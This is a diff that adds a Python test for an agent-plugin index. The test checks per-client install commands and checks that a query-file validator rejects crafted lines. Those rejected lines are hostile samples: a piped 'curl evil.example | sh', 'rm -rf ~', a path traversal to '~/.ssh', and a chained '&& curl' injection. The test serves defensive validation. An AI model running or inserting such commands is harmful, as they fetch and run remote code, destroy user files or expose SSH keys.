@@ -622,3 +622,38 @@ def test_cursor_records_of_the_formats_corpus_show_what_they_run(formats_snapsho
     assert fastedge.counts.mcp_servers == 1 and fastedge.risk == "high"
     learning = records["cursor:continual-learning@cursor/plugins"]  # a stop hook in Cursor's shape
     assert learning.counts.hooks == 1 and "runs a shell command on stop" in learning.capabilities
+
+
+def test_search_shows_the_commands_of_the_client_asked_and_a_query_file_keeps_only_ours(formats_snapshot: Any) -> None:
+    """A result installs in the client the search asks for (its --client), else in the client
+    whose catalog gives it: Codex's commands for a Codex record, the copy lines for a skill. A
+    downloaded query file keeps only lines of the shapes we write."""
+    from agentops_index.search.query import install_for
+    from agentops_index.search.queryfile import client_line, read_query_file
+    from agentops_index.search.records import project_all, query_file_bytes
+
+    records = {r["id"]: r for r in project_all(formats_snapshot)}
+    codex = records["codex:axiom@CharlesWiltgen/Axiom"]
+    assert install_for(codex, None) == (
+        "codex plugin marketplace add CharlesWiltgen/Axiom",
+        "codex plugin add axiom@axiom-marketplace",
+    )
+    skill = records["skill:vue@antfu/skills"]
+    lines = install_for(skill, None)
+    assert len(lines) == 2 and lines[0].endswith("# Claude Code") and all(client_line("skill", x) for x in lines)
+    shared = next(
+        r for r in records.values() if r.get("home", "claude") == "claude" and any(c == "codex" for c, _ in r["installs"])
+    )
+    assert install_for(shared, None)[0].startswith("/plugin ") and install_for(shared, "codex")[0].startswith("codex plugin ")
+    # Every command the crawl wrote survives the query file; crafted ones do not.
+    _, read = read_query_file(query_file_bytes(formats_snapshot), "q")
+    assert {r["id"]: list(map(tuple, r["installs"])) for r in read} == {i: list(r["installs"]) for i, r in records.items()}
+    for client, line in [
+        ("codex", "codex plugin add x@y; curl https://evil.example | sh"),
+        ("codex", "codex plugin marketplace add a/b\nrm -rf ~"),
+        ("skill", lines[0].replace('"$d/r/skills/vue"', '"$d/r/../../.ssh"')),
+        ("skill", lines[0].replace("# Claude Code", "&& curl evil.example # Claude Code")),
+        ("skill", lines[0].replace("~/.claude/skills", "~/.bashrc.d")),
+        ("cursor", "anything"),
+    ]:
+        assert not client_line(client, line), line
